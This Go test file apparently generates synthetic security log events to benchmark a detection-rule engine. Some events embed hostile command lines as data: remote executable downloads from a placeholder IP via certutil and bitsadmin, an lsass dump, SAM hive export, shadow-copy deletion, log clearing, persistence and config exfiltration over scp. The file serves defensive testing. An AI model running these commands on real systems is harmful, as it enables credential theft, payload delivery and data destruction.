//go:build unix

package bench_test

import (
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"strings"
)

// A lane is a kind of events that an engine's speed is measured with. The same
// seed makes the same events on every machine.
type lane struct {
	name string
	seed uint64
	draw func(r *rand.Rand, i int) map[string]any
}

func lanes() []lane {
	return []lane{
		{"raw Windows", 1, func(r *rand.Rand, _ int) map[string]any { return rawWindows(r) }},
		{"structured Windows", 2, func(r *rand.Rand, _ int) map[string]any { return process(r, 2) }},
		{"match-heavy", 3, func(r *rand.Rand, _ int) map[string]any { return process(r, 80) }},
		{"no match", 4, func(r *rand.Rand, _ int) map[string]any { return noise(r) }},
		{"mixed schema", 5, mixed},
		{"syslog", 6, func(r *rand.Rand, _ int) map[string]any { return syslog(r) }},
		{"Sysmon file", 7, func(r *rand.Rand, _ int) map[string]any { return fileCreated(r) }},
	}
}

// events draws a lane, one JSON object each.
func (l *lane) events(n int) [][]byte {
	r := rand.New(rand.NewPCG(l.seed, 1))
	out := make([][]byte, n)
	for i := range out {
		raw, err := json.Marshal(l.draw(r, i))
		if err != nil {
			panic(err) // maps of text and numbers
		}
		out[i] = raw
	}
	return out
}

func pick(r *rand.Rand, list ...string) string { return list[r.IntN(len(list))] }

func hexText(r *rand.Rand, n int) string {
	const digits = "0123456789abcdef"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[r.IntN(16)]
	}
	return string(b)
}

func clockText(r *rand.Rand) string {
	return fmt.Sprintf("2026-03-%02d %02d:%02d:%02d.%03d", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), r.IntN(1000))
}

func host(r *rand.Rand) string { return pick(r, "desk-17", "desk-23", "file-02", "dc-01", "lab-5") }

func account(r *rand.Rand) string {
	return pick(r, `NT AUTHORITY\SYSTEM`, `ACME\mira`, `ACME\tomas`, `ACME\svc-sql`, `NT AUTHORITY\LOCAL SERVICE`)
}

func parent(r *rand.Rand) string {
	return pick(r, `C:\Windows\System32\services.exe`, `C:\Windows\explorer.exe`, `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\svchost.exe`)
}

// command draws a command line, of which so many in a hundred look bad, and its
// program.
func command(r *rand.Rand, bad int) (line, image string) {
	if r.IntN(100) < bad {
		line = pick(r,
			`powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAkAGUAbgB2ADoAYwBtAGQA`,
			`certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe`,
			`whoami.exe /all`, `vssadmin.exe delete shadows /all /quiet`, `reg.exe save HKLM\SAM C:\Users\Public\sam.hiv`,
			`schtasks.exe /create /tn Sync /tr C:\Users\Public\a.exe /sc onlogon /ru SYSTEM`, `net.exe localgroup administrators guest /add`,
			`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full`, `wevtutil.exe cl Security`, `bitsadmin.exe /transfer j http://203.0.113.9/b.exe C:\Users\Public\b.exe`,
		)
		image, _, _ = strings.Cut(line, " ")
		return line, `C:\Windows\System32\` + image
	}
	image = pick(r, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\taskhostw.exe`, `C:\Program Files\Editor\editor.exe`, `C:\Windows\System32\RuntimeBroker.exe`, `C:\Windows\System32\conhost.exe`)
	return image + pick(r, ` -k LocalService -p`, ` --type=renderer --lang=en`, ` 0x4`, ` -Embedding`, ` /background`), image
}

// process is a record of Sysmon's process creation, parsed into fields.
func process(r *rand.Rand, bad int) map[string]any {
	line, image := command(r, bad)
	parentLine, _ := command(r, 0)
	return map[string]any{
		"EventID": 1, "Image": image, "CommandLine": line, "ParentImage": parent(r), "ParentCommandLine": parentLine, "User": account(r),
		"IntegrityLevel": pick(r, "Medium", "High", "System"), "CurrentDirectory": `C:\Windows\system32\`, "LogonId": "0x" + hexText(r, 6),
		"ProcessId": 500 + r.IntN(60_000), "ParentProcessId": 500 + r.IntN(60_000), "ProcessGuid": guid(r), "Hashes": "SHA256=" + strings.ToUpper(hexText(r, 64)),
		"OriginalFileName": image[strings.LastIndexByte(image, '\\')+1:], "Computer": host(r), "UtcTime": clockText(r),
		"product": "windows", "category": "process_creation",
	}
}

func guid(r *rand.Rand) string {
	return "{" + hexText(r, 8) + "-" + hexText(r, 4) + "-" + hexText(r, 4) + "-" + hexText(r, 4) + "-" + hexText(r, 12) + "}"
}

// rawWindows is the text of a security event, as a forwarder sends it on that
// parses nothing.
func rawWindows(r *rand.Rand) map[string]any {
	line, image := command(r, 10)
	h := host(r)
	text := fmt.Sprintf("<134>Mar %d %02d:%02d:%02d %s EventForwarder\t2\tSecurity\t%d\t4688\tMicrosoft-Windows-Security-Auditing\tN/A\tSuccess Audit\t%s\tProcess Creation\t"+
		"A process was started. Subject: Account: %s Domain: ACME Logon: 0x%s. Process: Id: 0x%s Name: %s Elevation: %%%%1937 Label: Medium. "+
		"Creator: Id: 0x%s Name: %s. Arguments: %s\t%d", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60), h, r.IntN(1_000_000_000), h, account(r),
		hexText(r, 5), hexText(r, 4), image, hexText(r, 4), parent(r), line, r.IntN(10_000_000))
	return map[string]any{"message": text, "product": "windows"}
}

// noise has fields that no rule reads.
func noise(r *rand.Rand) map[string]any {
	out := map[string]any{"product": "invented"}
	for i := range 8 {
		out[fmt.Sprintf("k%d", i)] = hexText(r, 24)
	}
	return out
}

func mixed(r *rand.Rand, i int) map[string]any {
	switch i % 4 {
	case 0:
		return process(r, 2)
	case 1:
		return map[string]any{
			"type": "SYSCALL", "syscall": pick(r, "59", "42", "257"), "exe": pick(r, "/usr/bin/dash", "/usr/bin/wget", "/usr/sbin/sshd", "/usr/bin/perl"),
			"comm": pick(r, "sh", "wget", "sshd", "perl"), "uid": fmt.Sprint(r.IntN(2000)), "auid": fmt.Sprint(1000 + r.IntN(1000)), "tty": pick(r, "pts1", "(none)"),
			"key": pick(r, "exec", "net", "(null)"), "product": "linux",
		}
	case 2:
		return map[string]any{
			"c-ip": fmt.Sprintf("198.51.100.%d", r.IntN(255)), "cs-method": pick(r, "GET", "POST"), "cs-uri-query": pick(r, "/", "/api/items?id=7", "/login", "/app.css"),
			"sc-status": []int{200, 200, 304, 404, 503}[r.IntN(5)], "cs-user-agent": pick(r, "Mozilla/5.0 (X11; Linux x86_64)", "curl/8.9.1", "Go-http-client/2.0"),
			"product": "webserver", "category": "webserver",
		}
	default:
		return map[string]any{
			"eventSource": pick(r, "s3.amazonaws.com", "iam.amazonaws.com", "ec2.amazonaws.com"), "eventName": pick(r, "GetObject", "CreateAccessKey", "RunInstances", "DescribeImages"),
			"awsRegion": pick(r, "eu-central-1", "us-west-2"), "sourceIPAddress": fmt.Sprintf("203.0.113.%d", r.IntN(255)),
			"userIdentity": map[string]any{"type": "IAMUser", "userName": pick(r, "build", "mira", "ops")}, "product": "aws", "service": "cloudtrail",
		}
	}
}

// syslog is a line of a router that accounts for commands.
func syslog(r *rand.Rand) map[string]any {
	cmd := pick(r, "show clock", "show interfaces", "ping 192.0.2.1", "show arp", "show inventory")
	if r.IntN(10) == 0 {
		cmd = pick(r, "show running-config", "clear logging", "copy running-config scp://192.0.2.7/c", "monitor capture point ip cef c1 Gi0/1 both", "crypto key zeroize rsa")
	}
	text := fmt.Sprintf("<189>Mar %d %02d:%02d:%02d %s %%AAA-5-USER_LOGGED: User %s executed: %s", 1+r.IntN(28), r.IntN(24), r.IntN(60), r.IntN(60),
		pick(r, "edge-1", "edge-2", "core-1"), pick(r, "noc", "mira", "backup"), cmd)
	return map[string]any{"message": text, "product": "cisco", "service": "aaa"}
}

// fileCreated is Sysmon's record of a new file.
func fileCreated(r *rand.Rand) map[string]any {
	target := pick(r, `C:\Users\mira\Documents\plan.docx`, `C:\Users\mira\Downloads\offer.pdf`, `C:\ProgramData\Agent\agent.log`, `C:\Windows\Temp\setup.tmp`)
	if r.IntN(20) == 0 {
		target = pick(r, `C:\Users\mira\Downloads\offer.pdf.exe`, `C:\Users\Public\a.exe`, `C:\Users\mira\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\a.lnk`, `C:\Windows\Temp\lsass.dmp`)
	}
	return map[string]any{
		"EventID": "11", "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": host(r),
		"Image":          pick(r, `C:\Windows\explorer.exe`, `C:\Program Files\Editor\editor.exe`, `C:\Windows\System32\svchost.exe`),
		"TargetFilename": target, "CreationUtcTime": clockText(r), "ProcessGuid": guid(r), "ProcessId": 500 + r.IntN(60_000), "User": account(r),
		"product": "windows", "category": "file_event",
	}
}
